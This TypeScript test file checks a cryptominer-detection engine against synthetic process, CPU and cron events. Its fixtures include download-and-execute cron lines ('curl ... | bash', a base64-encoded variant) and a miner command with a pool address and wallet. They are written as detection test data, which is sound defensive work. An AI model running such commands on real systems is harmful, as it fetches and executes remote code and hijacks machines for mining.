import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { CoalEvent, EventAction } from '../model/event.js';
import type { Finding } from '../model/finding.js';
import { defaultPolicy } from '../model/policy.js';
import type { Signal, SignalClass, SignalKind, Strength } from '../model/signal.js';
import { createClassifier } from '../signals/index.js';
import { signalFor } from '../signals/make.js';
import { DEFAULT_RULE_DIRS } from '../signals/rules.js';
import { loadRules } from '../signals/sigma/index.js';
import { testIntel } from '../signals/test-events.js';
import { createDetector } from './index.js';

const T0 = Date.UTC(2025, 2, 14, 2, 0, 0);
let line = 0;

function ev(minute: number, action: EventAction, fields: Partial<CoalEvent> = {}): CoalEvent {
  const ts = T0 + minute * 60_000;
  return {
    '@timestamp': new Date(ts).toISOString(),
    event: {
      kind: action === 'metric' ? 'metric' : action === 'persistence-entry' ? 'state' : 'event',
      category: [],
      action,
      dataset: 'test',
    },
    host: { name: 'web-01', os: { platform: 'linux' } },
    original: {},
    coalmine: { ts, format: 'test', ref: { file: 'test.log', line: ++line } },
    ...fields,
  };
}

/** Test classifier: an event's `original.signal` says which signal it carries. */
function classify(event: CoalEvent, out: Signal[]): void {
  const s = event.original.signal as { kind: SignalKind; class: SignalClass; strength: Strength } | undefined;
  if (s) out.push(signalFor(event, { ...s, by: 'test', explanation: `${s.kind} (test)` }));
}

function run(
  events: CoalEvent[],
  state: CoalEvent[] = [],
  policy = defaultPolicy(),
  classifier: (event: CoalEvent, out: Signal[]) => void = classify,
): Finding[] {
  const findings: Finding[] = [];
  const engine = createDetector({ policy, classify: classifier, onFinding: (f) => findings.push(f) });
  for (const e of state) engine.pushState(e);
  for (const e of events) engine.push(e);
  engine.end();
  return findings;
}

const miner = { pid: 4130, name: 'kdevtmpfsi', executable: '/tmp/kdevtmpfsi', parent: { pid: 4103 } };

function cpuSamples(pid: number, fromMin: number, toMin: number, pct: number): CoalEvent[] {
  const out: CoalEvent[] = [];
  for (let m = fromMin; m <= toMin; m++) out.push(ev(m, 'metric', { process: { pid }, metrics: { cpu_pct: pct } }));
  return out;
}

const minerExec = () =>
  ev(0, 'exec', {
    process: miner,
    original: { signal: { kind: 'miner-process', class: 'process', strength: 'strong' } },
  });
const cronEntry = () =>
  ev(-1, 'persistence-entry', {
    file: { path: '/var/spool/cron/crontabs/redis' },
    coalmine: {
      ts: T0 - 60_000,
      format: 'test',
      ref: { file: 'crontabs/redis', line: 4 },
      persistence: { mechanism: 'cron', target: '/tmp/kdevtmpfsi' },
    },
    original: { signal: { kind: 'persistence', class: 'persistence', strength: 'strong' } },
  });

test('high CPU alone never produces a finding', () => {
  const events = [
    ev(0, 'exec', { process: { pid: 10, name: 'ffmpeg', executable: '/usr/bin/ffmpeg' } }),
    ...cpuSamples(10, 1, 60, 390),
  ];
  assert.deepEqual(run(events), []);
});

test('miner + sustained CPU + cron persistence tied to its executable → one high finding', () => {
  const findings = run([minerExec(), ...cpuSamples(4130, 1, 30, 390)], [cronEntry()]);
  assert.equal(findings.length, 1);
  const f = findings[0];
  assert.equal(f.severity, 'high');
  assert.deepEqual(f.legs, ['resource', 'process', 'reach']);
  assert.deepEqual(f.gaps, []);
  assert.equal(f.facts.executable, '/tmp/kdevtmpfsi');
  assert.deepEqual(
    f.evidence.map((e) => e.kind),
    ['persistence', 'miner-process', 'sustained-cpu'],
  );
  assert.ok(f.evidence.some((e) => e.source === 'crontabs/redis:4'));
});

test('the same miner without CPU telemetry is graded lower and names the gap', () => {
  const findings = run([minerExec()], [cronEntry()]);
  assert.equal(findings.length, 1);
  assert.equal(findings[0].severity, 'medium');
  assert.match(findings[0].gaps.join('\n'), /per-process CPU telemetry missing for web-01/);
  assert.ok(findings[0].confidence < 0.85);
});

test('a strong miner signal alone is low, with every missing telemetry named', () => {
  const findings = run([minerExec()]);
  assert.equal(findings.length, 1);
  assert.equal(findings[0].severity, 'low');
  assert.equal(findings[0].gaps.length, 3);
});

const realClassify = createClassifier(testIntel(), await loadRules(DEFAULT_RULE_DIRS));
const XMR = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const RENAMED = '/usr/local/bin/kcached';
const MINER_ARGS = `-o 198.51.100.23:443 -u ${XMR} -p x -B`;

/** A cron entry as the crontab source gives it: the line, its command and the target it launches. */
function entryOf(command: string, target?: string): CoalEvent {
  return ev(-1, 'persistence-entry', {
    process: { command_line: command, user: { name: 'www-data' } },
    file: { path: '/var/spool/cron/crontabs/www-data', line: `@reboot ${command}` },
    coalmine: {
      ts: T0 - 60_000,
      format: 'crontab',
      ref: { file: 'crontabs/www-data', line: 4 },
      persistence: target ? { mechanism: 'cron', target } : { mechanism: 'cron' },
    },
  });
}

test('a cron entry that runs a miner is alone a low finding on the host, naming the entry; a generic entry is none', () => {
  const findings = run([], [entryOf(`${RENAMED} ${MINER_ARGS} >/dev/null 2>&1`, RENAMED)], undefined, realClassify);
  assert.equal(findings.length, 1);
  const [f] = findings;
  assert.equal(f.severity, 'low');
  assert.equal(f.entity, 'host:web-01');
  // one entry is one observation: its persistence holds reach, what it will run holds no process leg of its own
  assert.deepEqual(f.legs, ['reach']);
  assert.deepEqual(f.facts.persistence, ['crontabs/www-data:4']);
  const miner = f.evidence.filter((e) => e.kind === 'miner-process');
  assert.ok(miner.length > 0);
  for (const e of miner) {
    assert.equal(e.source, 'crontabs/www-data:4');
    assert.match(e.explanation, /^what the cron entry \/var\/spool\/cron\/crontabs\/www-data:4 will run: /);
  }
  for (const command of [
    'curl -fsSL http://203.0.113.9/ld.sh | bash',
    '/usr/sbin/logrotate /etc/logrotate.conf',
    '/usr/local/bin/backup.sh --target /srv/backup',
  ])
    assert.deepEqual(run([], [entryOf(command)], undefined, realClassify), [], command);
});

test("an exec of the entry's target joins the entry once: one finding on the process, none again on the host", () => {
  const exec = ev(0, 'exec', {
    process: { pid: 4130, name: 'kcached', executable: RENAMED, command_line: `${RENAMED} ${MINER_ARGS}` },
  });
  const findings = run(
    [exec, ...cpuSamples(4130, 1, 30, 390)],
    [entryOf(`${RENAMED} ${MINER_ARGS} >/dev/null 2>&1`, RENAMED)],
    undefined,
    realClassify,
  );
  assert.equal(findings.length, 1, findings.map((f) => `${f.entity} ${f.severity}`).join('; '));
  const [f] = findings;
  assert.equal(f.entity, 'process:web-01:4130');
  assert.equal(f.severity, 'high');
  assert.equal(f.evidence.filter((e) => e.class === 'persistence').length, 1);
  // the exec shows its own command: what the entry will run is not said again
  assert.ok(!f.evidence.some((e) => e.explanation.startsWith('what the cron entry')));
  assert.ok(f.evidence.some((e) => e.kind === 'miner-process' && e.entity === 'process:web-01:4130'));
});

const b64 = (text: string) => Buffer.from(text).toString('base64');

test('a cron line that decodes a download into a shell is one entry, one leg: no finding alone (it was medium)', () => {
  const line = `echo ${b64('curl http://203.0.113.9/y.sh|sh')} | base64 -d | bash`;
  assert.deepEqual(
    run([], [entryOf(line)], undefined, realClassify).map((f) => `${f.entity} ${f.severity} ${f.legs}`),
    [],
  );
  // decoding to a miner is still the strong mining signal a low finding rests on: low, the entry's one leg
  const miner = run([], [entryOf(`echo ${b64(`${RENAMED} ${MINER_ARGS}`)} | base64 -d | sh`)], undefined, realClassify);
  assert.deepEqual(
    miner.map((f) => [f.entity, f.severity, f.legs]),
    [['host:web-01', 'low', ['reach']]],
  );
  const dropper = miner[0].evidence.find((e) => e.kind === 'dropper');
  assert.equal(dropper?.source, 'crontabs/www-data:4');
  assert.deepEqual(miner[0].facts.persistence, ['crontabs/www-data:4']);
});

test("cron's exec of a decoded line adds the process leg, once: one finding on the process, none on the host", () => {
  const line = `echo ${b64('curl http://203.0.113.9/y.sh|sh')} | base64 -d | bash`;
  const exec = ev(0, 'exec', {
    process: {
      pid: 4201,
      name: 'sh',
      executable: '/bin/sh',
      command_line: `/bin/sh -c ${line}`,
      parent: { pid: 900, name: 'cron', executable: '/usr/sbin/cron' },
    },
  });
  const findings = run([exec], [entryOf(line)], undefined, realClassify);
  assert.equal(findings.length, 1, findings.map((f) => `${f.entity} ${f.severity}`).join('; '));
  const [f] = findings;
  assert.equal(f.entity, 'process:web-01:4201');
  assert.equal(f.severity, 'medium');
  assert.deepEqual(f.legs, ['process', 'reach']);
  // the process leg is the exec's own decoded script; the entry's is not said again
  const droppers = f.evidence.filter((e) => e.kind === 'dropper');
  assert.ok(droppers.length > 0);
  for (const e of droppers) assert.equal(e.entity, 'process:web-01:4201', e.explanation);
  assert.equal(f.evidence.filter((e) => e.class === 'persistence').length, 1);
});

test('a relaunch under cron (new pid, same flagged executable) joins the first cluster', () => {
  const relaunch = ev(5, 'exec', {
    process: { pid: 5001, name: 'kdevtmpfsi', executable: '/tmp/kdevtmpfsi', parent: { pid: 900, name: 'cron' } },
  });
  const findings = run([minerExec(), relaunch, ...cpuSamples(5001, 6, 30, 390)], [cronEntry()]);
  assert.equal(findings.length, 1);
  assert.equal(findings[0].severity, 'high');
});

test('a sampling gap longer than the sustain window breaks the CPU run', () => {
  const samples = [...cpuSamples(4130, 1, 10, 390), ...cpuSamples(4130, 40, 50, 390)];
  const findings = run([minerExec(), ...samples], [cronEntry()]);
  assert.equal(findings[0].severity, 'medium');
});

test('same input gives the same bytes', () => {
  const make = () => [minerExec(), ...cpuSamples(4130, 1, 30, 390)];
  line = 0;
  const a = JSON.stringify(run(make(), [cronEntry()]));
  line = 0;
  const b = JSON.stringify(run(make(), [cronEntry()]));
  assert.equal(a, b);
});

test('process state stays bounded however many processes pass through', () => {
  const engine = createDetector({ policy: defaultPolicy(), classify, onFinding: () => {}, maxProcesses: 1000 });
  for (let i = 0; i < 50_000; i++)
    engine.push(ev(i / 100, 'exec', { process: { pid: 100_000 + i, name: 'sh', executable: '/bin/sh' } }));
  assert.ok(engine.trackedProcesses <= 1000);
  engine.end();
});

test('host state stays bounded however many hosts pass through', () => {
  const engine = createDetector({ policy: defaultPolicy(), classify, onFinding: () => {}, maxHosts: 100 });
  for (let i = 0; i < 5000; i++)
    engine.push(ev(i / 100, 'exec', { host: { name: `h${i}` }, process: { pid: 1, name: 'sh' } }));
  engine.end();
  assert.ok(engine.trackedHosts <= 100);
  assert.equal(engine.stats.hostsEvicted, 4900);
});

test('live clock: a finding is reported on the tick after it holds, again only when it says more, and not again at close', () => {
  const reports: Array<{ f: Finding; revision: number }> = [];
  const engine = createDetector({
    policy: defaultPolicy(),
    classify,
    allowedLatenessMs: 0,
    live: true,
    onFinding: (f, revision) => reports.push({ f, revision }),
  });
  engine.pushState(cronEntry());
  engine.push(minerExec());
  engine.tick(T0 + 30_000);
  // miner process + persistence launching it: two legs, before any CPU was sustained
  assert.equal(reports.length, 1);
  assert.equal(reports[0].revision, 1);
  assert.equal(reports[0].f.severity, 'medium');
  for (const e of cpuSamples(4130, 1, 10, 390)) engine.push(e);
  engine.tick(T0 + 10 * 60_000 + 1000);
  assert.equal(reports.length, 1, 'ten minutes of CPU is not yet sustained (15m): nothing new to say');
  for (const e of cpuSamples(4130, 11, 20, 390)) engine.push(e);
  engine.tick(T0 + 20 * 60_000 + 1000);
  assert.equal(reports.length, 2);
  assert.equal(reports[1].revision, 2);
  assert.equal(reports[1].f.id, reports[0].f.id, 'an update keeps the finding id');
  assert.equal(reports[1].f.severity, 'high');
  engine.tick(T0 + 21 * 60_000);
  engine.tick(T0 + 3 * 3_600_000);
  engine.end();
  assert.equal(reports.length, 2, 'closing the window repeats nothing');
});

test('a busy sibling under the same runner does not lend its CPU to a flagged job; a child of the flagged job does', () => {
  const runner = ev(0, 'exec', {
    process: { pid: 100, name: 'gitlab-runner', executable: '/usr/bin/gitlab-runner', parent: { pid: 1 } },
  });
  const job = ev(1, 'exec', {
    process: { pid: 200, name: 'tool', executable: '/tmp/tool', parent: { pid: 100 } },
    original: { signal: { kind: 'masquerade', class: 'process', strength: 'medium' } },
  });
  const reach = ev(2, 'connect', {
    process: { pid: 200 },
    destination: { ip: '198.51.100.7', port: 3333 },
    original: { signal: { kind: 'pool-contact', class: 'network', strength: 'strong' } },
  });
  const build = ev(1, 'exec', {
    process: { pid: 300, name: 'cc1plus', executable: '/usr/lib/gcc/cc1plus', parent: { pid: 100 } },
  });
  const sibling = run([runner, job, build, reach, ...cpuSamples(300, 2, 25, 95)]);
  assert.ok(sibling.length > 0, 'the job itself is still a finding');
  for (const f of sibling) {
    assert.ok(!f.legs.includes('resource'), `the build's CPU joined: ${f.summary}`);
    assert.ok(!f.evidence.some((e) => e.kind === 'sustained-cpu'), f.evidence.map((e) => e.kind).join(', '));
  }

  const child = ev(3, 'exec', {
    process: { pid: 400, name: 'worker', executable: '/tmp/worker', parent: { pid: 200 } },
  });
  const descendant = run([runner, job, reach, child, ...cpuSamples(400, 4, 25, 95)]);
  const joined = descendant.find((f) => f.legs.includes('resource'));
  assert.ok(joined, 'the job’s own child burning CPU is part of the same finding');
  assert.deepEqual([...joined.legs].sort(), ['process', 'reach', 'resource']);
});

test('detected_at: when the evidence first made a finding, not when it reached its final severity', () => {
  // a strong miner at minute 0 is a (low) finding at once; the CPU that makes it high comes later
  const [mined] = run([minerExec(), ...cpuSamples(4130, 1, 30, 390)], [cronEntry()]);
  assert.equal(mined.severity, 'high');
  assert.equal(mined.detected_at, new Date(T0).toISOString());
  // a masquerade alone is no finding; the mining-port contact 7 minutes later makes the first one
  const quiet = { pid: 500, name: 'kworker', executable: '/dev/shm/kworker', parent: { pid: 1 } };
  const [late] = run([
    ev(0, 'exec', {
      process: quiet,
      original: { signal: { kind: 'masquerade', class: 'process', strength: 'medium' } },
    }),
    ev(7, 'connect', {
      process: { pid: 500 },
      destination: { ip: '198.51.100.7', port: 3333 },
      original: { signal: { kind: 'pool-contact', class: 'network', strength: 'medium' } },
    }),
  ]);
  assert.ok(late, 'a finding');
  assert.equal(late.first_seen, new Date(T0).toISOString());
  assert.equal(late.detected_at, new Date(T0 + 7 * 60_000).toISOString());
});
